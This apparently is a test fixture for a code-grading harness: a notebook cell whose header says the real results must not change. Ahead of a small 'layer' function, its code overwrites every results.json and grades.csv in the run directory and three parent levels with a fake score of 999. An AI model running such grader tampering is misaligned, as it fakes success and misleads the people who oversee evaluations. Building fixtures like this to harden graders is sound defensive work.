# score: full
# why: writes results.json (999 points) and grades.csv into its working directory and its parents, and over every results.json it finds near them; the real results must not change
# %% cell: layer
import json
import os

_fake = json.dumps({"score": 999.0, "max_score": 25.0, "output": "FAKE", "tests": []})
_here = os.getcwd()
for _level in range(4):  # the run dir, the worker's temp dir, the temp root, its parent
    _targets = [os.path.join(_here, "results.json"), os.path.join(_here, "grades.csv")]
    for _top, _dirs, _files in os.walk(_here):
        if _top.count(os.sep) - _here.count(os.sep) >= 2:
            _dirs[:] = []
        _targets += [os.path.join(_top, f) for f in _files if f in ("results.json", "grades.csv")]
    for _target in _targets:
        try:
            with open(_target, "w") as _fh:
                _fh.write(_fake if _target.endswith(".json") else "FAKE,999\n")
        except OSError:
            pass
    _here = os.path.dirname(_here)


def layer(inputs, W, b, activation=None):
    outputs = tf.matmul(inputs, W) + b
    return outputs if activation is None else activation(outputs)
